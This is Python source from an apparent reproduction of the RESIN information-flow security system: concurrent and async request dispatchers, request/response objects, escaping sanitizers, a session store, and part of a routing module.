                loop = asyncio.get_running_loop()
                snapshot = contextvars.copy_context()
                return await loop.run_in_executor(
                    self._executor, snapshot.run, self._serve, request
                )
            finally:
                self._admitted -= 1

    def submit(self, request: Request) -> "asyncio.Task":
        """Queue ``request`` and return the task serving it.

        The task is tracked until it finishes, so :meth:`aclose` can drain
        (or cancel) everything in flight.
        """
        self._check_open()
        self._bind_loop()
        task = asyncio.get_running_loop().create_task(self._dispatch_admitted(request))
        self._in_flight.add(task)
        task.add_done_callback(self._in_flight.discard)
        return task

    async def dispatch_all(
        self, requests: Iterable[Request], return_exceptions: bool = False
    ) -> List:
        """Serve many requests concurrently, preserving submission order.

        With ``return_exceptions`` the result list holds the exception
        object for each failed request instead of raising on the first
        failure — one request's ``PolicyViolation`` never aborts another's.
        """
        tasks = [self.submit(request) for request in requests]
        return await asyncio.gather(*tasks, return_exceptions=return_exceptions)

    def run(self, requests: Iterable[Request], return_exceptions: bool = False) -> List:
        """Synchronous convenience: serve a batch via ``asyncio.run``.

        For callers without an event loop of their own (benchmarks, the
        Table 4 harness).  Must not be called while a loop is running.
        """
        return asyncio.run(self.dispatch_all(requests, return_exceptions))

    def _serve(self, request: Request):
        env = self.resin.env
        with RequestContext(
            env=env,
            user=request.user,
            request=request,
            request_id=stamp_request_id(env, request),
        ):
            return self.app.handle(request)

    def _is_native_async(self, request: Request) -> bool:
        is_native = getattr(self.app, "is_native_async", None)
        return bool(is_native(request)) if callable(is_native) else False

    def _bind_loop(self) -> asyncio.Semaphore:
        # The admission semaphore belongs to one event loop; re-bind to the
        # current loop only when nothing is in flight on the previous one
        # (which is what lets repeated asyncio.run() calls reuse a
        # dispatcher).  _admitted covers direct dispatch() awaiters, which
        # hold semaphore permits without ever appearing in _in_flight.
        loop = asyncio.get_running_loop()
        if self._loop is not loop:
            if self._admitted or any(
                not task.done() for task in self._in_flight
            ):
                raise RuntimeError(
                    "AsyncDispatcher is already serving on another event loop"
                )
            self._loop = loop
            self._semaphore = asyncio.Semaphore(self.max_in_flight)
        return self._semaphore

    def _check_open(self) -> None:
        if self._closed:
            raise RuntimeError("dispatcher has been shut down")

    # -- lifecycle ---------------------------------------------------------------

    async def aclose(self, cancel_pending: bool = False) -> None:
        """Graceful shutdown: refuse new work, drain in-flight requests.

        With ``cancel_pending`` the in-flight tasks are cancelled instead of
        awaited to completion (handlers already on an executor thread still
        run to completion there — their request context unwinds with them).
        Idempotent.
        """
        self._closed = True
        pending = [task for task in self._in_flight if not task.done()]
        if cancel_pending:
            for task in pending:
                task.cancel()
        if pending:
            await asyncio.gather(*pending, return_exceptions=True)
        loop = asyncio.get_running_loop()
        await loop.run_in_executor(None, self._executor.shutdown)

    def shutdown(self, wait: bool = True) -> None:
        """Synchronous shutdown, for use outside any event loop."""
        self._closed = True
        self._executor.shutdown(wait=wait)

    async def __aenter__(self) -> "AsyncDispatcher":
        return self

    async def __aexit__(self, exc_type, exc, tb) -> bool:
        await self.aclose()
        return False

    def __enter__(self) -> "AsyncDispatcher":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        self.shutdown()
        return False

    def __repr__(self) -> str:
        state = "closed" if self._closed else "open"
        return (
            f"AsyncDispatcher(app={getattr(self.app, 'name', self.app)!r}, "
            f"workers={self.workers}, max_in_flight={self.max_in_flight}, {state})"
        )
