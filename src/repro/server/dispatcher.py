"""The concurrent request dispatcher.

``Dispatcher`` is the piece that turns the single-request runtime into a
server: it wraps a :class:`~repro.web.app.WebApplication` and a thread pool,
and hands every incoming :class:`~repro.web.request.Request` to a worker
thread that serves it inside its own
:class:`~repro.core.request_context.RequestContext` (derived from a shared
:class:`~repro.runtime_api.Resin`).  Because all "current request" state —
the authenticated user, the HTTP output buffer, the filesystem request
context, the per-request database filter overlay — lives in the context (a
:mod:`contextvars` variable), N concurrent requests share one environment
with zero taint or policy leakage between them, and a
:class:`~repro.core.exceptions.PolicyViolation` raised while serving one
request surfaces only through that request's future.

Each submission captures the caller's :class:`contextvars.Context`, so
context-variable state is visible to the worker while everything the worker
binds stays in its private copy.  Application singletons (e.g. phpBB's
board) resolve through ``env.services`` — per environment, not per context —
so every worker of a deployment sees the same application objects::

    app = WebApplication(env)
    with Dispatcher(app, workers=16) as server:
        futures = [server.submit(req) for req in requests]
        responses = [f.result() for f in futures]

For an event-loop front end with backpressure, cancellation and graceful
shutdown over the same request machinery, see
:class:`~repro.server.async_dispatcher.AsyncDispatcher`.
"""

from __future__ import annotations

import contextvars
from concurrent.futures import Future, ThreadPoolExecutor
from typing import Iterable, List

from ..core.request_context import RequestContext, stamp_request_id
from ..web.request import Request

__all__ = ["Dispatcher"]


class Dispatcher:
    """Serves a :class:`~repro.web.app.WebApplication` concurrently.

    ``workers`` bounds the number of requests in flight; ``resin`` (optional)
    is the shared facade requests derive their context from — by default a
    fresh :class:`~repro.runtime_api.Resin` over the application's own
    environment.
    """

    def __init__(self, app, workers: int = 4, resin=None):
        if int(workers) < 1:
            raise ValueError("workers must be >= 1")
        from ..runtime_api import Resin

        self.app = app
        self.resin = resin if resin is not None else Resin(app.env)
        self.workers = int(workers)
        self._executor = ThreadPoolExecutor(
            max_workers=self.workers, thread_name_prefix="resin-dispatch"
        )
        self._closed = False

    # -- dispatch ----------------------------------------------------------------

    def submit(self, request: Request) -> Future:
        """Queue ``request`` and return a future for its response channel.

        The future raises whatever escaped the handler (e.g. a
        ``PolicyViolation`` when ``app.catch_violations`` is off); failures
        are confined to their own future and never affect other requests.
        """
        if self._closed:
            raise RuntimeError("dispatcher has been shut down")
        snapshot = contextvars.copy_context()
        return self._executor.submit(snapshot.run, self._serve, request)

    def _serve(self, request: Request):
        env = self.resin.env
        with RequestContext(
            env=env,
            user=request.user,
            request=request,
            request_id=stamp_request_id(env, request),
        ):
            return self.app.handle(request)

    def dispatch(self, request: Request):
        """Serve one request synchronously (through the pool)."""
        return self.submit(request).result()

    def dispatch_all(
        self, requests: Iterable[Request], return_exceptions: bool = False
    ) -> List:
        """Serve many requests concurrently, preserving submission order.

        With ``return_exceptions`` the result list holds the exception object
        for each failed request instead of raising on the first failure — the
        shape concurrent evaluation harnesses want.
        """
        futures = [self.submit(request) for request in requests]
        results: List = []
        for future in futures:
            if return_exceptions:
                exc = future.exception()
                results.append(exc if exc is not None else future.result())
            else:
                results.append(future.result())
        return results

    # -- lifecycle ---------------------------------------------------------------

    def shutdown(self, wait: bool = True) -> None:
        self._closed = True
        self._executor.shutdown(wait=wait)

    def __enter__(self) -> "Dispatcher":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        self.shutdown()
        return False

    def __repr__(self) -> str:
        state = "closed" if self._closed else "open"
        return (
            f"Dispatcher(app={getattr(self.app, 'name', self.app)!r}, "
            f"workers={self.workers}, {state})"
        )
