"""repro — a Python reproduction of RESIN (SOSP 2009).

RESIN lets programmers specify application-level *data flow assertions* using
three mechanisms: policy objects attached to data, runtime data tracking that
propagates those policies, and filter objects that define data flow
boundaries where assertions are checked.

Quickstart (the fluent, environment-scoped facade)::

    from repro import PasswordPolicy, Resin

    resin = Resin()
    password = resin.taint("s3cret", PasswordPolicy("u@example.org"))
    resin.mail.send(to="u@example.org", subject="reminder",
                    body="your password is " + password)  # allowed
    with resin.request(user="someone@else.org") as http:
        http.write(password)                              # raises

Everything a ``Resin`` does is scoped to its own ``Environment`` — two
tenants in one process never share filter state.  See ``docs/API.md``.
"""

from .core import (AccessDenied, DeclassifyFilter, DefaultFilter,
                   DisclosureViolation, Filter, FilterChain, FilterContext,
                   FilterError, FilterRegistry, InjectionViolation,
                   MergeError, OutputBuffer, Policy, PolicySet,
                   PolicyViolation, RequestContext, ResinError,
                   ScriptInjectionViolation, check_export, current_request,
                   default_registry, filter_of, guard_function, has_policy,
                   policy_add, policy_get, policy_remove,
                   register_policy_class, taint, untaint)
from .policies import (ACL, AuthenticData, CodeApproval, HTMLSanitized,
                       JSONSanitized, PagePolicy, PasswordPolicy,
                       ReadAccessPolicy, SecretPolicy, SQLSanitized,
                       UntrustedData)
from .tracking import (RangeMap, TaintedBytes, TaintedFloat, TaintedInt,
                       TaintedStr, concat, interpolate, policies_of,
                       taint_bytes, taint_float, taint_int, taint_str,
                       to_tainted_str)

__version__ = "1.0.0"

__all__ = [
    "__version__",
    # core
    "Policy", "PolicySet", "Filter", "DefaultFilter", "DeclassifyFilter",
    "FilterChain", "FilterContext", "OutputBuffer",
    "policy_add", "policy_remove", "policy_get", "has_policy", "taint",
    "untaint", "check_export", "guard_function", "filter_of",
    "register_policy_class",
    # scoped registry + fluent facade (the supported runtime API)
    "FilterRegistry", "default_registry", "Resin",
    # per-request state + concurrent dispatch
    "RequestContext", "current_request", "Dispatcher", "AsyncDispatcher",
    # exceptions
    "ResinError", "PolicyViolation", "AccessDenied", "DisclosureViolation",
    "InjectionViolation", "ScriptInjectionViolation", "MergeError",
    "FilterError",
    # policies
    "PasswordPolicy", "SecretPolicy", "PagePolicy", "ReadAccessPolicy",
    "ACL", "UntrustedData", "SQLSanitized", "HTMLSanitized", "JSONSanitized",
    "AuthenticData", "CodeApproval",
    # tracking
    "TaintedStr", "TaintedBytes", "TaintedInt", "TaintedFloat", "RangeMap",
    "taint_str", "taint_bytes", "taint_int", "taint_float", "policies_of",
    "to_tainted_str", "concat", "interpolate",
    # environment + facade (imported lazily, see below)
    "Environment",
]


def __getattr__(name):
    # Environment / Resin pull in every substrate; import them lazily so
    # that ``import repro`` stays cheap for users who only need the core API.
    if name == "Environment":
        from .environment import Environment
        return Environment
    if name == "Resin":
        from .runtime_api import Resin
        return Resin
    if name == "Dispatcher":
        from .server.dispatcher import Dispatcher
        return Dispatcher
    if name == "AsyncDispatcher":
        from .server.async_dispatcher import AsyncDispatcher
        return AsyncDispatcher
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
