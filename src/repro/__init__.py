"""repro — a Python reproduction of RESIN (SOSP 2009).

RESIN lets programmers specify application-level *data flow assertions* using
three mechanisms: policy objects attached to data, runtime data tracking that
propagates those policies, and filter objects that define data flow
boundaries where assertions are checked.

Quickstart::

    from repro import PasswordPolicy, policy_add, Environment

    env = Environment()
    password = policy_add("s3cret", PasswordPolicy("u@example.org"))
    env.mail.send(to="u@example.org", subject="reminder",
                  body="your password is " + password)   # allowed
    env.http.write(password)                              # raises
"""

from .core import (AccessDenied, DeclassifyFilter, DefaultFilter,
                   DisclosureViolation, Filter, FilterChain, FilterContext,
                   FilterError, InjectionViolation, MergeError, OutputBuffer,
                   Policy, PolicySet, PolicyViolation, ResinError,
                   ScriptInjectionViolation, check_export, filter_of,
                   guard_function, has_policy, policy_add, policy_get,
                   policy_remove, register_policy_class,
                   reset_default_filters, set_default_filter_factory, taint,
                   untaint)
from .policies import (ACL, AuthenticData, CodeApproval, HTMLSanitized,
                       JSONSanitized, PagePolicy, PasswordPolicy,
                       ReadAccessPolicy, SecretPolicy, SQLSanitized,
                       UntrustedData)
from .tracking import (RangeMap, TaintedBytes, TaintedFloat, TaintedInt,
                       TaintedStr, concat, interpolate, policies_of,
                       taint_bytes, taint_float, taint_int, taint_str,
                       to_tainted_str)

__version__ = "1.0.0"

__all__ = [
    "__version__",
    # core
    "Policy", "PolicySet", "Filter", "DefaultFilter", "DeclassifyFilter",
    "FilterChain", "FilterContext", "OutputBuffer",
    "policy_add", "policy_remove", "policy_get", "has_policy", "taint",
    "untaint", "check_export", "guard_function", "filter_of",
    "register_policy_class", "set_default_filter_factory",
    "reset_default_filters",
    # exceptions
    "ResinError", "PolicyViolation", "AccessDenied", "DisclosureViolation",
    "InjectionViolation", "ScriptInjectionViolation", "MergeError",
    "FilterError",
    # policies
    "PasswordPolicy", "SecretPolicy", "PagePolicy", "ReadAccessPolicy",
    "ACL", "UntrustedData", "SQLSanitized", "HTMLSanitized", "JSONSanitized",
    "AuthenticData", "CodeApproval",
    # tracking
    "TaintedStr", "TaintedBytes", "TaintedInt", "TaintedFloat", "RangeMap",
    "taint_str", "taint_bytes", "taint_int", "taint_float", "policies_of",
    "to_tainted_str", "concat", "interpolate",
    # environment (imported lazily, see below)
    "Environment",
]


def __getattr__(name):
    # Environment pulls in every substrate; import it lazily so that
    # ``import repro`` stays cheap for users who only need the core API.
    if name == "Environment":
        from .environment import Environment
        return Environment
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
