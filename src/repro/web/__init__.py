"""Web substrate: requests, responses, sessions, routing and sanitizers."""

from .app import WebApplication
from .request import Request
from .response import Response
from .routing import (
    CatchViolationsMiddleware,
    MethodNotAllowed,
    Middleware,
    RequestLogMiddleware,
    Route,
    RouteMatch,
    Router,
    ScopedMiddleware,
    SessionMiddleware,
    UntrustedInputMiddleware,
)
from .sanitize import html_escape, json_encode, sql_quote, strip_tags
from .session import Session, SessionStore

__all__ = [
    "WebApplication",
    "Request",
    "Response",
    "Router",
    "Route",
    "RouteMatch",
    "MethodNotAllowed",
    "Middleware",
    "ScopedMiddleware",
    "RequestLogMiddleware",
    "SessionMiddleware",
    "UntrustedInputMiddleware",
    "CatchViolationsMiddleware",
    "Session",
    "SessionStore",
    "sql_quote",
    "html_escape",
    "json_encode",
    "strip_tags",
]
