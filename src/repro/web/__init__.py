"""Web substrate: requests, sessions, routing and sanitizers."""

from .app import WebApplication
from .request import Request
from .sanitize import html_escape, json_encode, sql_quote, strip_tags
from .session import Session, SessionStore

__all__ = ["WebApplication", "Request", "Session", "SessionStore",
           "sql_quote", "html_escape", "json_encode", "strip_tags"]
