"""HTTP requests.

A :class:`Request` models one browser request: method, path, query/form
parameters, cookies and the authenticated user (resolved by the application
from credentials, or by a
:class:`~repro.web.routing.SessionMiddleware` from a session cookie).
Parameter values are plain strings; the untrusted-input assertion
(:func:`repro.security.assertions.mark_request_untrusted`, usually installed
as an :class:`~repro.web.routing.UntrustedInputMiddleware`) is what annotates
them with ``UntrustedData`` — marking inputs is part of an assertion, not of
the substrate.
"""

from __future__ import annotations

from typing import Any, Dict, Optional

from ..tracking.tainted_str import TaintedStr


class Request:
    """One HTTP request."""

    def __init__(
        self,
        path: str,
        method: str = "GET",
        params: Optional[Dict[str, Any]] = None,
        cookies: Optional[Dict[str, str]] = None,
        user: Optional[str] = None,
        remote_addr: str = "127.0.0.1",
        files: Optional[Dict[str, Any]] = None,
    ):
        self.path = str(path)
        self.method = method.upper()
        self.params: Dict[str, Any] = dict(params or {})
        self.cookies: Dict[str, str] = dict(cookies or {})
        self.files: Dict[str, Any] = dict(files or {})
        #: The authenticated user, or None for anonymous requests.  Set by
        #: the application's authentication step, a session middleware, or
        #: directly by tests.
        self.user = user
        self.remote_addr = remote_addr
        #: Environment-unique monotonic request id, stamped by the first
        #: front end / request scope that serves this request (see
        #: :func:`repro.core.request_context.stamp_request_id`).  ``None``
        #: until dispatched.
        self.id: Optional[int] = None
        #: The server-side session resolved for this request, if any (set by
        #: :class:`~repro.web.routing.SessionMiddleware`).
        self.session = None
        # One-shot (app, RouteMatch) cache filled by
        # WebApplication.is_native_async and consumed by the dispatch that
        # follows, so the route table is scanned once per request.
        self._route_match = None
        #: True when the front end serving this request can drain a
        #: streaming response body itself (the HTTP socket server).  The
        #: application then defers stream chunks instead of applying them
        #: eagerly — see ``HTTPOutputChannel.pending_stream``.
        self.stream_consumer = False
        #: The raw request body, when the request arrived over a transport
        #: that carries one (the socket server sets this; form-encoded
        #: bodies are additionally decoded into ``params``).
        self.body: Optional[bytes] = None

    def param(self, name: str, default: Any = None) -> Any:
        return self.params.get(name, default)

    def require(self, name: str) -> Any:
        if name not in self.params:
            from ..core.exceptions import HTTPError

            raise HTTPError(400, f"missing parameter {name!r}")
        return self.params[name]

    def mark_params(self, policy) -> None:
        """Attach ``policy`` to every string parameter and uploaded file."""
        from ..core.api import policy_add

        for key, value in list(self.params.items()):
            if isinstance(value, str):
                self.params[key] = policy_add(TaintedStr(value), policy)
        for key, value in list(self.files.items()):
            if isinstance(value, (str, bytes)):
                self.files[key] = policy_add(value, policy)

    def __repr__(self) -> str:
        return f"Request({self.method} {self.path!r} user={self.user!r})"
