"""The unified ``Response`` object.

Handlers used to mutate their :class:`~repro.channels.httpout.HTTPOutputChannel`
directly (``response.set_status(...)``, ``response.write(...)``).  That still
works — the channel *is* the RESIN boundary — but a handler can now instead
*return* a :class:`Response`: a plain value describing status, headers and
body, which the application applies to the request's channel afterwards.

The application of a ``Response`` is where the data crosses the boundary:
every body chunk goes through ``channel.write`` (and therefore through the
channel's filter chain and every chunk's policies), and every header goes
through ``channel.add_header``.  Building a ``Response`` never checks
anything; a handler can assemble a page of data it is not allowed to
disclose and the assertion still fires — at apply time, inside the
application's violation handling.

A body chunk may also be a *stream*: a generator (or any iterable) or an
``async`` generator.  Streams are consumed lazily and **each produced piece
crosses the filter chain on its own** — a ten-thousand-row export is ten
thousand boundary checks, and the first disallowed row stops the stream
mid-flight.  Over the socket server a streamed body leaves the process as
chunked transfer-encoding, piece by piece; in-process front ends drain it
at apply time.  Headers are an ordered multi-map: repeated names
(``Set-Cookie``, ``Allow``) stay repeated all the way to the wire.
"""

from __future__ import annotations

import asyncio
from typing import Any, AsyncIterator, Iterable, List, Optional, Tuple


def is_stream(chunk: Any) -> bool:
    """True when ``chunk`` is a lazily-consumed body source (a generator,
    any non-string iterable, or an async iterable) rather than data."""
    if isinstance(chunk, (str, bytes)):
        return False
    return hasattr(chunk, "__aiter__") or hasattr(chunk, "__iter__")


class Response:
    """A handler's description of one HTTP response.

    Fluent: ``Response("hello").set_status(201).header("X-Kind", "demo")``.
    A plain string returned from a handler is shorthand for
    ``Response(body)``; a generator (or ``async`` generator) body streams.
    """

    def __init__(
        self,
        body: Any = None,
        status: int = 200,
        headers: Optional[Iterable[Tuple[str, Any]]] = None,
    ):
        self.status = int(status)
        self.headers: List[Tuple[str, Any]] = list(headers or [])
        self.chunks: List[Any] = []
        if body is not None:
            self.chunks.append(body)

    # -- building -----------------------------------------------------------------

    def write(self, data: Any) -> "Response":
        """Append a body chunk (policies on ``data`` are preserved — they
        are checked when the response is applied to the channel)."""
        self.chunks.append(data)
        return self

    def stream(self, source: Any) -> "Response":
        """Append a lazily-consumed body source — a generator, iterable, or
        ``async`` generator.  Every piece it yields crosses the channel's
        filter chain individually when the body is drained."""
        if not is_stream(source):
            raise TypeError(
                f"stream() wants an iterable or async iterable, got {source!r}; "
                "use write() for plain data"
            )
        self.chunks.append(source)
        return self

    def set_status(self, status: int) -> "Response":
        self.status = int(status)
        return self

    def header(self, name: str, value: Any) -> "Response":
        """Add one header line.  Repeating a name keeps *both* lines —
        headers are a multi-map, and the wire format emits repeated lines."""
        self.headers.append((name, value))
        return self

    @classmethod
    def redirect(cls, location: str, status: int = 302) -> "Response":
        """A redirect response; the ``Location`` header crosses the filter
        chain like any other header (response-splitting stays checked)."""
        return cls(status=status, headers=[("Location", location)])

    # -- crossing the boundary ----------------------------------------------------

    def has_stream(self) -> bool:
        """Whether any body chunk is lazy (a stream)."""
        return any(is_stream(chunk) for chunk in self.chunks)

    def apply_headers(self, channel) -> None:
        """Emit status and headers through ``channel`` (each header value
        traverses the filter chain; repeated names stay repeated)."""
        channel.set_status(self.status)
        for name, value in self.headers:
            channel.add_header(name, value)

    def apply(self, channel) -> None:
        """Emit this response through ``channel`` — the point where status,
        headers and every body chunk actually cross the HTTP boundary.

        Stream chunks are drained here: sync streams piece by piece, async
        streams on a private event loop (so this method must not be called
        while an event loop is running on this thread — front ends on a
        loop use :meth:`apply_async`, the socket server defers the body and
        drains it at the connection).
        """
        self.apply_headers(channel)
        for chunk in self.chunks:
            if not is_stream(chunk):
                channel.write(chunk)
            elif hasattr(chunk, "__aiter__"):
                asyncio.run(self._drain_async_source(channel, chunk))
            else:
                for piece in chunk:
                    channel.write(piece)

    async def apply_async(self, channel) -> None:
        """:meth:`apply`, with async streams awaited on the running loop."""
        self.apply_headers(channel)
        for chunk in self.chunks:
            if not is_stream(chunk):
                channel.write(chunk)
            elif hasattr(chunk, "__aiter__"):
                async for piece in chunk:
                    channel.write(piece)
            else:
                for piece in chunk:
                    channel.write(piece)

    @staticmethod
    async def _drain_async_source(channel, source: AsyncIterator) -> None:
        async for piece in source:
            channel.write(piece)

    def __repr__(self) -> str:
        streams = sum(1 for chunk in self.chunks if is_stream(chunk))
        return (
            f"Response(status={self.status}, headers={len(self.headers)}, "
            f"chunks={len(self.chunks)}, streams={streams})"
        )
