"""The unified ``Response`` object.

Handlers used to mutate their :class:`~repro.channels.httpout.HTTPOutputChannel`
directly (``response.set_status(...)``, ``response.write(...)``).  That still
works — the channel *is* the RESIN boundary — but a handler can now instead
*return* a :class:`Response`: a plain value describing status, headers and
body, which the application applies to the request's channel afterwards.

The application of a ``Response`` is where the data crosses the boundary:
every body chunk goes through ``channel.write`` (and therefore through the
channel's filter chain and every chunk's policies), and every header goes
through ``channel.add_header``.  Building a ``Response`` never checks
anything; a handler can assemble a page of data it is not allowed to
disclose and the assertion still fires — at apply time, inside the
application's violation handling.
"""

from __future__ import annotations

from typing import Any, Iterable, List, Optional, Tuple


class Response:
    """A handler's description of one HTTP response.

    Fluent: ``Response("hello").set_status(201).header("X-Kind", "demo")``.
    A plain string returned from a handler is shorthand for
    ``Response(body)``.
    """

    def __init__(
        self,
        body: Any = None,
        status: int = 200,
        headers: Optional[Iterable[Tuple[str, Any]]] = None,
    ):
        self.status = int(status)
        self.headers: List[Tuple[str, Any]] = list(headers or [])
        self.chunks: List[Any] = []
        if body is not None:
            self.chunks.append(body)

    # -- building -----------------------------------------------------------------

    def write(self, data: Any) -> "Response":
        """Append a body chunk (policies on ``data`` are preserved — they
        are checked when the response is applied to the channel)."""
        self.chunks.append(data)
        return self

    def set_status(self, status: int) -> "Response":
        self.status = int(status)
        return self

    def header(self, name: str, value: Any) -> "Response":
        self.headers.append((name, value))
        return self

    @classmethod
    def redirect(cls, location: str, status: int = 302) -> "Response":
        """A redirect response; the ``Location`` header crosses the filter
        chain like any other header (response-splitting stays checked)."""
        return cls(status=status, headers=[("Location", location)])

    # -- crossing the boundary ----------------------------------------------------

    def apply(self, channel) -> None:
        """Emit this response through ``channel`` — the point where status,
        headers and every body chunk actually cross the HTTP boundary."""
        channel.set_status(self.status)
        for name, value in self.headers:
            channel.add_header(name, value)
        for chunk in self.chunks:
            channel.write(chunk)

    def __repr__(self) -> str:
        return (
            f"Response(status={self.status}, headers={len(self.headers)}, "
            f"chunks={len(self.chunks)})"
        )
