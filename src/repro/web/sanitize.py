"""Sanitization functions.

The paper's first SQL-injection / XSS strategy (Section 5.3) changes the
application's *existing* sanitization functions to attach a ``SQLSanitized``
or ``HTMLSanitized`` policy to the freshly sanitized data.  These are those
sanitizers: each performs the usual escaping and then marks every character
of the result.

Note that the ``UntrustedData`` policy is deliberately *not* removed: keeping
it lets an assertion distinguish data sanitized for SQL from data sanitized
for HTML (using the wrong sanitizer still trips the assertion).
"""

from __future__ import annotations

import json

from ..policies.untrusted import HTMLSanitized, JSONSanitized, SQLSanitized
from ..tracking.propagation import to_tainted_str
from ..tracking.tainted_str import TaintedStr

__all__ = ["sql_quote", "html_escape", "json_encode", "strip_tags"]


def _escape_chars(text: TaintedStr, replacements) -> TaintedStr:
    """Replace metacharacters, keeping each replacement's characters tagged
    with the policies of the character they were derived from (so an escaped
    ``'`` that came from user input is still ``UntrustedData``)."""
    from ..tracking.propagation import spread_policies
    pieces = []
    for char in text:
        replacement = replacements.get(str(char))
        if replacement is None:
            pieces.append(char)
        else:
            pieces.append(spread_policies(replacement, char.policies()))
    result = TaintedStr("")
    for piece in pieces:
        result = result + piece
    return result


def sql_quote(value) -> TaintedStr:
    """Escape a value for inclusion inside a single-quoted SQL literal and
    mark it ``SQLSanitized``."""
    text = to_tainted_str(value)
    escaped = _escape_chars(text, {"'": "''"})
    return escaped.with_policy(SQLSanitized("sql_quote")) if escaped else escaped


_HTML_REPLACEMENTS = {
    "&": "&amp;",
    "<": "&lt;",
    ">": "&gt;",
    '"': "&quot;",
    "'": "&#x27;",
}


def html_escape(value) -> TaintedStr:
    """Escape HTML metacharacters and mark the result ``HTMLSanitized``."""
    text = to_tainted_str(value)
    text = _escape_chars(text, _HTML_REPLACEMENTS)
    if not text:
        return text
    return text.with_policy(HTMLSanitized("html_escape"))


def json_encode(value) -> TaintedStr:
    """Encode a value as a JSON string literal and mark it ``JSONSanitized``
    (Section 5.4: JSON output has the same structure-injection problem as
    SQL)."""
    text = to_tainted_str(value)
    encoded = TaintedStr(json.dumps(str(text)))
    # json.dumps goes through C code and drops the taint; re-attach the
    # original policies plus the sanitized marker so tracking continues.
    for policy in text.policies():
        encoded = encoded.with_policy(policy)
    return encoded.with_policy(JSONSanitized("json_encode"))


def strip_tags(value) -> TaintedStr:
    """Remove anything that looks like an HTML tag (a second-line sanitizer
    some of the forum code paths use before quoting message bodies)."""
    text = to_tainted_str(value)
    result = TaintedStr("")
    in_tag = False
    for char in text:
        if char == "<":
            in_tag = True
            continue
        if char == ">" and in_tag:
            in_tag = False
            continue
        if not in_tag:
            result = result + char
    return result
