"""Server-side sessions.

A tiny session store keyed by session id; enough for the applications to
remember logged-in users and per-session state (e.g. HotCRP's e-mail preview
mode is a site-wide option, but MoinMoin and phpBB track the authenticated
user through a session cookie).
"""

from __future__ import annotations

import itertools
import threading
from typing import Any, Dict, Optional


class Session(dict):
    """One user's session data."""

    def __init__(self, sid: str):
        super().__init__()
        self.sid = sid

    @property
    def user(self) -> Optional[str]:
        return self.get("user")

    @user.setter
    def user(self, value: Optional[str]) -> None:
        self["user"] = value


class SessionStore:
    """In-memory session store."""

    def __init__(self):
        self._sessions: Dict[str, Session] = {}
        self._counter = itertools.count(1)
        self._lock = threading.Lock()

    def create(self, user: Optional[str] = None, **data: Any) -> Session:
        sid = f"sess-{next(self._counter):06d}"
        session = Session(sid)
        if user is not None:
            session.user = user
        session.update(data)
        with self._lock:
            self._sessions[sid] = session
        return session

    def get(self, sid: Optional[str]) -> Optional[Session]:
        if sid is None:
            return None
        with self._lock:
            return self._sessions.get(sid)

    def destroy(self, sid: str) -> None:
        with self._lock:
            self._sessions.pop(sid, None)

    def __len__(self) -> int:
        return len(self._sessions)
