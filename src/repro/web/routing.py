"""Method-aware, parameterized routing and the middleware pipeline.

This module is the front half of the web framework's request path:

* :class:`Route` / :class:`Router` — URL patterns with typed parameters
  (``/paper/<int:pid>``), per-route HTTP methods, and proper 404-vs-405
  semantics (a path that exists but does not allow the request's method is
  :class:`MethodNotAllowed`, never a 404);
* :class:`Middleware` — the request/response/exception pipeline that
  replaced ``WebApplication.before_request`` and ``catch_violations``;
* the stock middlewares every RESIN application wants at its boundary:
  :class:`SessionMiddleware` (cookie → session → authenticated user),
  :class:`UntrustedInputMiddleware` (taint-marks request input, the
  "mark inputs" half of the Section 5.3 assertions) and
  :class:`CatchViolationsMiddleware` (maps an escaping
  :class:`~repro.core.exceptions.PolicyViolation` to an HTTP 403).

Patterns are plain paths with ``<name>`` / ``<converter:name>`` segments.
Converters validate *and type* the captured value; a segment that fails its
converter means the route simply does not match (so ``/paper/abc`` falls
through to a 404 rather than reaching a handler expecting an ``int``).  The
``path`` converter is the only one that may span ``/`` separators; routes
are tried in registration order and the first match wins, so register more
specific patterns (``/wiki/<path:name>/raw``) before greedier ones
(``/wiki/<path:name>``).
"""

from __future__ import annotations

import inspect
import re
from typing import Any, Callable, Dict, Iterable, List, Optional, Tuple

from ..core.exceptions import HTTPError

__all__ = [
    "CONVERTERS",
    "CatchViolationsMiddleware",
    "MethodNotAllowed",
    "Middleware",
    "RequestLogMiddleware",
    "Route",
    "RouteMatch",
    "Router",
    "ScopedMiddleware",
    "SessionMiddleware",
    "UntrustedInputMiddleware",
]


class MethodNotAllowed(HTTPError):
    """The path matched a route, but no route allows the request's method.

    Carries the methods that *are* allowed so the application can emit an
    ``Allow`` header, per RFC 9110.
    """

    def __init__(self, method: str, path: str, allowed: Iterable[str]):
        self.allowed: Tuple[str, ...] = tuple(sorted(set(allowed)))
        super().__init__(
            405,
            f"method {method} not allowed for {path} "
            f"(allow: {', '.join(self.allowed)})",
        )


def _int_converter(value: str) -> int:
    if not value.isdigit():
        raise ValueError(f"not an integer segment: {value!r}")
    return int(value)


def _float_converter(value: str) -> float:
    return float(value)


#: name -> callable(str) raising ValueError when the segment does not belong
#: to the converter's domain.  ``path`` is special-cased by the compiler (it
#: is the only converter whose segment may contain ``/``).
CONVERTERS: Dict[str, Callable[[str], Any]] = {
    "str": str,
    "int": _int_converter,
    "float": _float_converter,
    "path": str,
}

_PARAM = re.compile(
    r"<(?:(?P<converter>[a-zA-Z_][a-zA-Z0-9_]*):)?"
    r"(?P<name>[a-zA-Z_][a-zA-Z0-9_]*)>"
)


def _compile(pattern: str) -> Tuple["re.Pattern", Dict[str, Callable]]:
    """Compile a route pattern into a regex plus per-parameter converters."""
    regex_parts: List[str] = []
    converters: Dict[str, Callable[[str], Any]] = {}
    position = 0
    for param in _PARAM.finditer(pattern):
        regex_parts.append(re.escape(pattern[position:param.start()]))
        name = param.group("name")
        converter = param.group("converter") or "str"
        if converter not in CONVERTERS:
            raise ValueError(
                f"unknown route converter {converter!r} in {pattern!r}; "
                f"known: {', '.join(sorted(CONVERTERS))}"
            )
        if name in converters:
            raise ValueError(
                f"duplicate parameter {name!r} in route pattern {pattern!r}"
            )
        segment = r".+" if converter == "path" else r"[^/]+"
        regex_parts.append(f"(?P<{name}>{segment})")
        converters[name] = CONVERTERS[converter]
        position = param.end()
    regex_parts.append(re.escape(pattern[position:]))
    return re.compile("".join(regex_parts) + r"\Z"), converters


class Route:
    """One registered route: a pattern, the methods it serves, a handler.

    ``methods=None`` means "any method" (the behaviour of the old flat
    ``routes`` dict); otherwise the route serves exactly the given methods,
